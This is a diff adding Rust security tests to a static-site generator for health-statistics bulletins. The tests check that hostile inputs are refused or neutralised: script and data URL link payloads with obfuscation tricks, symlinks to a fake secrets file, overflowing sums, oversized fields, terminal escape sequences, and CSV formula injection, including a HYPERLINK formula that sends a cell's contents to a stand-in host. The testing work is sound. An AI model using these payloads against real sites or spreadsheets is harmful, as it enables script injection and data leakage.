@@ -1156,3 +1156,276 @@ fn cli_build_refuses_foreign_non_empty_directory() {
     let siblings: Vec<_> = fs::read_dir(tmp.path()).unwrap().collect();
     assert_eq!(siblings.len(), 1, "nothing written beside it");
 }
+
+// ---------------------------------------------------------------------------------------------
+// Hostile content: URLs, links to files, sums, sizes, terminal escapes (issue 16)
+// ---------------------------------------------------------------------------------------------
+
+#[test]
+fn script_url_as_bulletin_source_is_a_located_error() {
+    let f = Fixture::bulletin(
+        "  url: null",
+        "  url: \"JavaScript:alert(document.domain)\"",
+    );
+    let d = f.single_error();
+    assert_diag(
+        &d,
+        Severity::Error,
+        BULLETIN,
+        (7, 8),
+        "the URL scheme `javascript` is not allowed",
+    );
+    assert_hint(&d, "https://");
+}
+
+/// Every trick a browser forgives (case, leading space, tab, entity) is refused in `links`,
+/// each at its own line; http, https, mailto and relative links pass.
+#[test]
+fn unsafe_links_in_site_yaml_are_refused_with_every_trick() {
+    let links = [
+        ("https://www.imss.gob.mx/", true),
+        ("mailto:prensa@imss.gob.mx", true),
+        ("../metodologia/", true),
+        ("javascript:alert(1)", false),
+        ("  JAVASCRIPT:alert(1)", false),
+        ("java\\tscript:alert(1)", false),
+        ("javascript&colon;alert(1)", false),
+        ("data:text/html;base64,PHNjcmlwdD4=", false),
+        ("vbscript:msgbox(1)", false),
+        ("\\u0001javascript:alert(1)", false),
+    ];
+    let mut site = format!("{SITE_YAML}links:\n");
+    for (url, _) in links {
+        site.push_str(&format!("  - label: \"x\"\n    url: \"{url}\"\n"));
+    }
+    let f = Fixture::with("content/site.yaml", &site);
+    let d = f.fails();
+    let lines: Vec<u32> = d.0.iter().map(|d| d.pos.line).collect();
+    let expected: Vec<u32> = links
+        .iter()
+        .enumerate()
+        .filter(|(_, (_, ok))| !ok)
+        .map(|(i, _)| 9 + 2 * i as u32)
+        .collect();
+    assert_eq!(lines, expected, "{d}");
+    for diag in &d.0 {
+        assert_eq!(diag.path, Path::new("content/site.yaml"));
+        assert_eq!(diag.pos.col, 10, "{diag}");
+    }
+    // `check --strict` fails too (and plain `check`: these are errors).
+    let out = f.cli(&["check", "--strict"]);
+    assert_eq!(out.status.code(), Some(1));
+}
+
+#[test]
+fn script_link_in_bulletin_text_is_located_in_the_text() {
+    let f = Fixture::new();
+    f.write(
+        BULLETIN_MD,
+        &format!("{BULLETIN_TEXT}\nVer [el boletín](JavaScript&colon;alert(1)) y ![x](data:image/svg+xml,x).\n"),
+    );
+    let d = f.fails();
+    let at: Vec<(u32, u32)> = d.0.iter().map(|d| (d.pos.line, d.pos.col)).collect();
+    let line = BULLETIN_TEXT.lines().count() as u32 + 2;
+    assert_eq!(at, [(line, 5), (line, 47)], "{d}");
+    assert!(d.0.iter().all(|d| d.path == Path::new(BULLETIN_MD)));
+}
+
+/// A catalogue, a bulletin text, a template, a static file or a whole folder that is a
+/// symbolic link is refused, and what it points to is never read or quoted.
+#[cfg(unix)]
+#[test]
+fn symlinked_content_is_refused_and_never_quoted() {
+    use std::os::unix::fs::symlink;
+    let secrets = tempfile::tempdir().unwrap();
+    let secret = secrets.path().join("environ");
+    fs::write(&secret, "title: CIFRAS_SECRET_TOKEN=hunter2\n").unwrap();
+    for rel in [
+        "content/site.yaml",
+        "content/metrics.yaml",
+        "content/places.yaml",
+        BULLETIN_MD,
+        BULLETIN,
+        "templates/base.html",
+        "static/style.css",
+    ] {
+        let f = Fixture::new();
+        let p = f.root().join(rel);
+        fs::create_dir_all(p.parent().unwrap()).unwrap();
+        let _ = fs::remove_file(&p);
+        symlink(&secret, &p).unwrap();
+        let out = f.cli(&["check"]);
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(1), "{rel}: {stderr}");
+        assert!(
+            stderr.contains(&format!("{rel}: error: is a symbolic link")),
+            "{rel}: {stderr}"
+        );
+        assert!(!stderr.contains("hunter2"), "{rel}: {stderr}");
+    }
+    // A whole folder replaced by a link.
+    for dir in ["content/bulletins", "templates", "static"] {
+        let f = Fixture::new();
+        let target = secrets.path().join(dir.replace('/', "_"));
+        fs::create_dir_all(&target).unwrap();
+        let p = f.root().join(dir);
+        if p.exists() {
+            fs::rename(&p, target.join("moved")).unwrap();
+        }
+        symlink(&target, &p).unwrap();
+        let d = f.fails();
+        assert!(
+            d.0.iter()
+                .any(|d| d.path.starts_with(dir) && d.message.contains("symbolic link")),
+            "{dir}: {d}"
+        );
+    }
+}
+
+/// Parts of 18446744073709551615 and 2 must not wrap round to "equal" a total of 1.
+#[test]
+fn sum_of_parts_that_overflows_is_a_located_error() {
+    let yaml = edit(
+        BULLETIN_YAML,
+        "value: 10\n",
+        "value: 18446744073709551615\n",
+    );
+    let yaml = edit(&yaml, "        value: 12\n", "        value: 1\n");
+    let f = Fixture::with(BULLETIN, &yaml);
+    let d = f.fails();
+    let errors: Vec<&Diagnostic> = d.errors().collect();
+    assert_eq!(errors.len(), 1, "{d}");
+    assert_diag(
+        errors[0],
+        Severity::Error,
+        BULLETIN,
+        (20, 17),
+        "the parts of `transplants` add up to more than 18446744073709551615",
+    );
+}
+
+/// A 240-character slug used to pass `check` and fail `build` with "File name too long".
+#[test]
+fn overlong_slugs_are_refused_by_check_with_the_limit() {
+    let long = "a".repeat(240);
+    let f = Fixture::new();
+    f.rename(BULLETIN, &format!("content/bulletins/{long}.yaml"));
+    f.rename(BULLETIN_MD, &format!("content/bulletins/{long}.md"));
+    let d = f.single_error();
+    assert!(
+        d.message.contains("240 characters long; the limit is 100"),
+        "{d}"
+    );
+
+    let f = Fixture::with(
+        "content/metrics.yaml",
+        &edit(METRICS_YAML, "slug: cirugias", &format!("slug: {long}")),
+    );
+    let d = f.single_error();
+    assert_diag(
+        &d,
+        Severity::Error,
+        "content/metrics.yaml",
+        (3, 11),
+        "this slug or id is 240 characters long; the limit is 100",
+    );
+}
+
+/// A 1 MB title used to be copied into every page that lists the bulletin (389 MB of output).
+#[test]
+fn oversized_fields_are_refused_with_the_limit() {
+    let huge = "x".repeat(1 << 20);
+    let f = Fixture::bulletin(
+        "title: \"Jornada nacional de prueba\"",
+        &format!("title: \"{huge}\""),
+    );
+    let d = f.single_error();
+    assert_diag(
+        &d,
+        Severity::Error,
+        BULLETIN,
+        (1, 8),
+        "this title, label or name is 1048576 characters long; the limit is 300",
+    );
+    let note = "n".repeat(5001);
+    let f = Fixture::with(
+        "content/places.yaml",
+        &format!("{PLACES_YAML}    note: \"{note}\"\n"),
+    );
+    let d = f.single_error();
+    assert!(d.message.contains("the limit is 5000"), "{d}");
+}
+
+/// Content is quoted in messages: a terminal escape sequence in it is shown, not obeyed.
+#[test]
+fn terminal_escapes_in_content_are_printed_escaped() {
+    let f = Fixture::bulletin(
+        "metric: transplants.kidney",
+        "metric: \"transplants\\e[2J\\e]0;pwned\\a\"",
+    );
+    let out = f.cli(&["check"]);
+    assert_eq!(out.status.code(), Some(1));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        !out.stderr.iter().any(|&b| b == 0x1b || b == 0x07),
+        "raw control bytes reached the terminal:\n{stderr}"
+    );
+    assert!(
+        stderr.contains(r"unknown metric `transplants\u{1b}[2J\u{1b}]0;pwned\u{7}`"),
+        "{stderr}"
+    );
+}
+
+/// Cells a spreadsheet would run as a formula get a leading `'`, in every CSV the site
+/// writes (all figures, per indicator, per place, per chart); numbers stay numbers.
+#[test]
+fn csv_cells_that_look_like_formulas_are_neutralised() {
+    let f = Fixture::bulletin(
+        "title: \"Jornada del 10 al 12 de septiembre\"",
+        "title: \"=HYPERLINK(\\\"http://x/?\\\"&A1)\"",
+    );
+    f.write(
+        "content/metrics.yaml",
+        &edit(METRICS_YAML, "label: \"Cirugías\"", "label: \"+Cirugías\""),
+    );
+    f.write(
+        "content/places.yaml",
+        &edit(PLACES_YAML, "name: \"Nacional\"", "name: \"@Nacional\""),
+    );
+    let tmp = tempfile::tempdir().unwrap();
+    let out = tmp.path().join("out");
+    cifras::build(f.root(), &out).unwrap_or_else(|d| panic!("{d}"));
+    let mut files = 0;
+    let mut quoted = 0;
+    for (path, bytes) in snapshot(&out) {
+        if path.extension().is_none_or(|e| e != "csv") {
+            continue;
+        }
+        files += 1;
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(&bytes[..]);
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                if cell.parse::<f64>().is_ok() {
+                    continue; // a number written as a number
+                }
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{}: formula cell {cell:?}",
+                    path.display()
+                );
+                quoted += usize::from(
+                    cell.starts_with("'=") || cell.starts_with("'+") || cell.starts_with("'@"),
+                );
+            }
+        }
+    }
+    assert!(files >= 4, "all, indicator, place and chart CSVs: {files}");
+    assert!(
+        quoted >= 4,
+        "the hostile cells were written, quoted: {quoted}"
+    );
+    let all = fs::read_to_string(out.join("datos/cifras.csv")).unwrap();
+    assert!(all.contains(",475725,"), "values stay numbers:\n{all}");
+}
